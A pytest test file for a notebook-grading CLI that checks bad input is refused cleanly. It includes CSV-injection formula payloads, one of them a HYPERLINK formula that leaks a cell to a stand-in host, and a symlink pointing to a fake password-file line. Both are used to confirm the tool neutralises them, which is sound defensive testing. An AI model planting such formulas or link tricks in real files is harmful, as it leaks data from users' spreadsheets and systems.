"""Bad input, by slip or by design: one line naming the parameter and exit status 2 before
anything runs, or, for a class's submissions, a row of the gradebook; never a traceback, and
never a file read that the grader was not given.

Every command runs in this process (`collapse.book.cli.main`) on a toy project, and nothing here
starts a kernel: the submissions are all refused before one would.
"""

import csv
import io
import math
import os
import textwrap
from pathlib import Path

import nbformat
import pytest

from collapse.book import cli, grading, runner
from collapse.checks import ParameterError, check_float

TOY = textwrap.dedent(
    """\
    ---
    jupytext:
      text_representation: {extension: .md, format_name: myst}
    kernelspec: {display_name: Python 3, language: python, name: python3}
    collapse:
      claim: "A toy"
      ranges:
        n: {min: 1, max: 10}
        scale: {min: 0.0, exclusive_min: true}
        ratio: {min: 0.0, max: 1.0}
    ---

    # Toy

    ```{code-cell} ipython3
    :tags: [parameters]
    n = 2
    scale = 1.5
    ratio = 0.5
    free = 0.5
    ```
    """
)

# A verdict record as `collapse run` writes it, so that `collapse verdicts` reads expectations.
RECORD = (
    '[{"id": "toy/sum", "notebook": "01-toy", "key": "sum", "kind": "extension", "claim": "c", '
    '"source": "", "quote": "", "measured": "m", "expected": "e", "passed": true, '
    '"decided": true, "profile": "fast", "seed_family": 0, "rows": []}]'
)


@pytest.fixture
def root(tmp_path):
    """A project with one chapter, 01-toy, and one executed verdict."""
    (tmp_path / "notebooks").mkdir()
    (tmp_path / "notebooks" / "01-toy.md").write_text(TOY)
    (tmp_path / "notebooks" / "profiles.yml").write_text("fast: {}\n")
    (tmp_path / "book" / "executed").mkdir(parents=True)
    (tmp_path / "book" / "executed" / "01-toy.verdicts.json").write_text(RECORD)
    return tmp_path


def collapse(capsys, root, *args) -> tuple[int, str, str]:
    """`collapse --root ROOT ARGS...`: (exit status, stdout, stderr)."""
    code = cli.main(["--root", str(root), *map(str, args)])
    out = capsys.readouterr()
    return code, out.out, out.err


def refused(capsys, root, *args) -> str:
    """The one line `collapse ARGS...` exits 2 with, without its prefix; nothing on stdout."""
    code, out, err = collapse(capsys, root, *args)
    assert (code, out) == (2, ""), (code, out, err)
    assert len(err.splitlines()) == 1 and err.startswith("collapse: error: "), err
    return err.strip().removeprefix("collapse: error: ")


def rows(path: Path) -> dict:
    return {Path(row["file"]).name: row for row in csv.DictReader(path.open())}


def notebook_answering(assignment) -> str:
    """A notebook that claims to answer `assignment` (its metadata, as a student may write it)."""
    nb = nbformat.v4.new_notebook(metadata={"collapse": {"assignment": {"notebook": assignment}}})
    return nbformat.writes(nb)


# --- collapse grade: what is read, and what reaches the gradebook ----------------------------


def test_a_symbolic_link_is_a_row_and_is_never_read(root, tmp_path, capsys, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:SECRET-HASH:0:0:root:/root:/bin/bash\n")
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.ipynb").symlink_to(secret)
    (folder / "bob").symlink_to(tmp_path)  # a link to a folder: not searched either
    book = tmp_path / "g.csv"
    code, out, err = collapse(capsys, root, "grade", folder, "--csv", book)
    assert code == 1 and "Traceback" not in err
    found = rows(book)
    assert list(found) == ["alice.ipynb", "bob"]
    for row in found.values():
        assert row["error"] == "a symbolic link: refused, never read (submit the notebook itself)"
    assert "SECRET" not in book.read_text() + out + err
    # a link put in place after the check is not followed either (O_NOFOLLOW)
    monkeypatch.setattr(Path, "is_symlink", lambda self: False)
    with pytest.raises(ParameterError, match="a symbolic link: refused, never read"):
        grading.read_submission(folder / "alice.ipynb")


def test_every_entry_of_a_class_folder_is_a_row(root, tmp_path, capsys):
    """Hidden files are graded like the others (a student's `.alice.ipynb` is not lost); a
    subfolder or a pipe is a row saying so, and a pipe is never waited on."""
    folder = tmp_path / "class"
    folder.mkdir()
    for name in ("..ipynb", ".alice.ipynb", "bob.ipynb"):
        (folder / name).write_text("not json")
    (folder / ".ipynb_checkpoints").mkdir()
    os.mkfifo(folder / "pipe.ipynb")
    book = tmp_path / "g.csv"
    code, out, _ = collapse(capsys, root, "grade", folder, "--csv", book)
    assert code == 1 and out.startswith("grading 5 submission(s)")
    found = {name: row["error"] for name, row in rows(book).items()}
    assert sorted(found) == ["..ipynb", ".alice.ipynb", ".ipynb_checkpoints", "bob.ipynb",
                             "pipe.ipynb"]  # fmt: skip
    for name in ("..ipynb", ".alice.ipynb", "bob.ipynb"):
        assert found[name].startswith("not a Jupyter notebook (.ipynb)")
    assert found[".ipynb_checkpoints"].startswith("a folder: not searched")
    assert found["pipe.ipynb"].startswith("not a regular file")


def test_a_file_named_twice_is_graded_once(root, tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    for name in ("alice.ipynb", "bob.ipynb"):
        (folder / name).write_text("not json")
    os.link(folder / "bob.ipynb", tmp_path / "bob-again.ipynb")
    named = [folder, folder / "alice.ipynb", folder / ".." / "class" / "alice.ipynb", folder,
             tmp_path / "bob-again.ipynb"]  # fmt: skip
    assert grading.collect(named) == [folder / "alice.ipynb", folder / "bob.ipynb"]
    book = tmp_path / "g.csv"
    code, out, _ = collapse(capsys, root, "grade", *named, "--csv", book)
    assert code == 1 and out.startswith("grading 2 submission(s)")
    assert len(book.read_text().splitlines()) == 3  # the header and two rows


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1",
            "\r=1"]  # fmt: skip


def test_no_gradebook_cell_starts_a_formula(root, tmp_path, capsys):
    """OWASP's advice on CSV injection: a leading quote for text a spreadsheet would run."""
    grades = [grading.Grade("x", notebook=f, error=f) for f in FORMULAS]
    cells = [row for row in csv.reader(io.StringIO(grading.gradebook(grades, FORMULAS)))][1:]
    for formula, row in zip(FORMULAS, cells, strict=True):
        assert row[:2] == [f"'{formula}", f"'{formula}"], row  # file, assignment
    checked = grading.Grade("ok.ipynb", notebook="01-toy")
    checked.checks = [grading.CheckResult("-sum", 2, False, True)]
    header, row = csv.reader(io.StringIO(grading.gradebook([checked], ["ok.ipynb"])))
    assert header[2] == "'-sum (2 pt)" and row == ["ok.ipynb", "01-toy", "2", "2", "2", ""]
    # through the command: notebook metadata a student wrote
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "carol.ipynb").write_text(notebook_answering(FORMULAS[0]))
    (folder / "dave.ipynb").write_text(notebook_answering(3))
    book = tmp_path / "g.csv"
    collapse(capsys, root, "grade", folder, "--csv", book)
    found = rows(book)
    assert found["carol.ipynb"]["assignment"] == f"'{FORMULAS[0]}"
    assert found["dave.ipynb"]["error"] == (
        "collapse.assignment.notebook must be a chapter's name, got 3"
    )


@pytest.mark.parametrize(
    "name, message",
    [
        ("class", "--csv {tmp}/class: a folder; give a file name ({tmp}/class/grades.csv)"),
        ("", "--csv needs a file name, got ''"),
        ("nowhere/g.csv", "--csv {tmp}/nowhere/g.csv: the folder {tmp}/nowhere does not exist"),
        ("pipe.csv", "--csv {tmp}/pipe.csv: not a regular file (a device or a pipe)"),
        ("/proc/version", "--csv /proc/version: cannot create a file in /proc ("),
    ],
)
def test_a_bad_gradebook_path_is_refused_before_grading(root, tmp_path, capsys, name, message):
    if name.startswith("/proc") and not Path(name).is_file():
        pytest.skip("no /proc here")
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.ipynb").write_text("not json")
    os.mkfifo(tmp_path / "pipe.csv")
    path = str(tmp_path / name) if name and not name.startswith("/") else name
    line = refused(capsys, root, "grade", folder, "--csv", path)  # no "grading ..." line first
    assert line.startswith(message.format(tmp=tmp_path)), line
    assert (tmp_path / "pipe.csv").exists() and not (tmp_path / "pipe.csv").is_file()


# --- the other commands ------------------------------------------------------------------------


def test_a_root_that_is_no_checkout_is_refused(root, capsys):
    """Never the checkout found elsewhere (above it, or the installed package's): a slip in
    --root must not run, build or overwrite another project."""
    for wrong in (root / "notebooks", root / "missing"):
        assert refused(capsys, wrong, "list") == (
            f"--root {wrong}: not a checkout (no notebooks/profiles.yml there)"
        )


def test_an_empty_repository_is_refused(root, capsys):
    assert refused(capsys, root, "book", "--repository", "") == (
        "--repository '': a GitHub repository URL is needed, https://github.com/OWNER/REPO "
        "(Colab opens notebooks from GitHub)"
    )


@pytest.mark.parametrize(
    "text, message",
    [
        (b"01-toy: 3\n", "notebooks/expectations.yml: 01-toy must map verdict keys to "
                         "{profile: outcome}, got 3"),
        (b"01-toy:\n  sum: 3\n", "notebooks/expectations.yml: 01-toy sum must map profiles to "
                                 "outcomes and why, short, whose to text, got 3"),
        (b"01-toy:\n  sum: {fast: 0}\n", "notebooks/expectations.yml: 01-toy sum must map "
                                         "profiles to outcomes and why, short, whose to text, "
                                         "got {'fast': 0}"),
        (b"01-toy:\n  sum: {fast: reproduced, why: caf\xe9}\n",
         "notebooks/expectations.yml is not UTF-8 text (byte 0xe9 on line 2)"),
    ],
)  # fmt: skip
def test_malformed_expectations_are_refused(root, capsys, text, message):
    (root / "notebooks" / "expectations.yml").write_bytes(text)
    assert refused(capsys, root, "verdicts", "--json") == message
    assert refused(capsys, root, "verdicts") == message


def test_an_empty_expectation_reads_as_none(root, capsys):
    (root / "notebooks" / "expectations.yml").write_text("01-toy:\n  sum:\n")
    code, out, err = collapse(capsys, root, "verdicts", "--json")
    assert code == 1 and '"outcome": "reproduced"' in out
    assert err.strip() == (
        "differs from expectations.yml: 01-toy sum [fast]: reproduced, "
        "but expectations.yml records no outcome"
    )


@pytest.mark.parametrize(
    "value, message",
    [
        (".nan", "parameter scale must be a finite number > 0.0, got nan"),
        (".inf", "parameter scale must be a finite number > 0.0, got inf"),
    ],
)
def test_nan_and_infinity_fail_a_range(root, capsys, value, message):
    assert refused(capsys, root, "run", "toy", "--dry-run", "--set", f"scale={value}") == message


def test_nan_fails_every_float_parameter_and_infinity_every_bounded_one(root):
    project = runner.Project(root)
    plan = lambda **o: runner.plan(project, ["toy"], "fast", o)[0][1]  # noqa: E731
    for value in (-math.inf, math.inf):
        with pytest.raises(ParameterError, match="ratio must be a finite number >= 0.0 and <="):
            plan(ratio=value)
    with pytest.raises(ParameterError, match="parameter free must be a finite number, got nan"):
        plan(free=math.nan)
    assert plan(free=math.inf)["free"] == math.inf  # no range: nothing to hold it to


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_check_float_refuses_what_is_not_finite(value):
    with pytest.raises(ParameterError, match=r"^x must be a number >= 0.0 and finite, got"):
        check_float("x", value, minimum=0.0)
    with pytest.raises(ParameterError, match=r"^x must be a number > 0 and finite, got"):
        check_float("x", value, positive=True)
    with pytest.raises(ParameterError, match=r"^x must be a number and finite, got"):
        check_float("x", value)


@pytest.mark.parametrize(
    "args, message",
    [
        (["run", "toy", "--dry-run", "--timeout", "-5"], "--timeout must be an int >= 1, got -5"),
        (["run", "toy", "--dry-run", "--timeout", "0"], "--timeout must be an int >= 1, got 0"),
        (["run", "toy", "--dry-run", "--executor", "dask", "--workers", "-1"],
         "--workers must be an int >= 1, got -1"),
        (["book", "--workers", "0"], "--workers must be an int >= 1, got 0"),
        (["run", "toy", "--dry-run", "--seed-family", "-1"],
         "--seed-family must be an int >= 0, got -1"),
        (["reseed", "nope", "--timeout", "-1"], "--timeout must be an int >= 1, got -1"),
        (["reseed", "nope", "--families", "1"], "--families must be an int >= 2, got 1"),
        (["grade", "nowhere.ipynb", "--jobs", "0"], "--jobs must be an int >= 1, got 0"),
        (["grade", "nowhere.ipynb", "--timeout", "-5"], "--timeout must be an int >= 1, got -5"),
    ],
)  # fmt: skip
def test_a_count_below_its_least_value_is_refused(root, capsys, args, message):
    assert refused(capsys, root, *args) == message
